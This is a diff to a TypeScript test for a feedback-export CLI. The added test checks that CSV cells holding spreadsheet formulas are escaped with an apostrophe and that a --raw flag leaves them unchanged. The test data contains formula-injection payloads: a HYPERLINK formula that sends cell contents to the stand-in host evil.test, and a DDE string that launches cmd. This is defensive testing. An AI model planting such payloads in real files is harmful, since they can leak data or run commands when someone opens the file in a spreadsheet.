@@ -7,6 +7,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { LOCAL_CREDENTIALS, type LocalS3, startLocalS3 } from '../../local/local-s3.ts';
 import { S3ObjectStore } from '../../shared/aws/s3-object-store.ts';
 import { feedbackId, putFeedback } from '../../shared/feedback/feedback-store.ts';
+import { spreadsheetSafe } from '../../shared/spreadsheet-safe.ts';
 import { runTextops } from '../helpers/cli.ts';
 import { sharedRows } from '../helpers/data.ts';
 
@@ -74,7 +75,7 @@ describe('textops feedback export', () => {
     const parsed = parse(await readFile(out, 'utf8')) as string[][];
     expect(parsed[0]).toEqual(['text', 'label']);
     expect(new Set(parsed.slice(1).map((r) => r.join('\u0000')))).toEqual(
-      new Set(rows.map(([text, label]) => `${text.trim()}\u0000${label}`)),
+      new Set(rows.map(([text, label]) => `${spreadsheetSafe(text.trim())}\u0000${label}`)),
     );
 
     const trained = await runTextops(['train', out, '--no-tune', '--out', join(dir, 'model'), '--json'], {
@@ -98,5 +99,56 @@ describe('textops feedback export', () => {
     expect(piped.code).toBe(0);
     expect(piped.stdout).toBe(await readFile(out, 'utf8'));
     expect(piped.stderr).toMatch(/^400 examples/);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula; --raw keeps the texts as sent', async () => {
+    const store = new S3ObjectStore(client, BUCKET);
+    const hostile = [
+      '=HYPERLINK("http://evil.test/?"&A1,"click")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1,1)',
+      '\t=1+1',
+      '\r=1+1',
+      '-3',
+      'a plain review',
+    ];
+    await Promise.all(
+      hostile.map((text, i) =>
+        putFeedback(store, 'formulas', {
+          id: feedbackId(text, 'neg'),
+          text,
+          label: i === 0 ? '=label' : 'neg',
+          predicted: 'neg',
+          modelVersion: '1',
+          requestId: null,
+          receivedAt: new Date(Date.UTC(2026, 11, 1, 0, 0, i)).toISOString(),
+        }),
+      ),
+    );
+    const safe = await runTextops(['feedback', 'export', '--model', 'formulas'], { env });
+    expect(safe.code, safe.stderr).toBe(0);
+    const cells = new Map((parse(safe.stdout) as string[][]).slice(1).map(([t, l]) => [t, l]));
+    expect([...cells.keys()].sort()).toEqual(
+      [
+        '\'=HYPERLINK("http://evil.test/?"&A1,"click")',
+        "'+1+cmd|' /C calc'!A0",
+        "'-2+3",
+        "'@SUM(1,1)",
+        "'\t=1+1",
+        "'\r=1+1",
+        '-3',
+        'a plain review',
+      ].sort(),
+    );
+    expect(cells.get('\'=HYPERLINK("http://evil.test/?"&A1,"click")')).toBe("'=label");
+    const raw = await runTextops(['feedback', 'export', '--model', 'formulas', '--raw'], { env });
+    expect(raw.code, raw.stderr).toBe(0);
+    expect(
+      (parse(raw.stdout) as string[][])
+        .slice(1)
+        .map(([t]) => t)
+        .sort(),
+    ).toEqual([...hostile].sort());
   });
 });
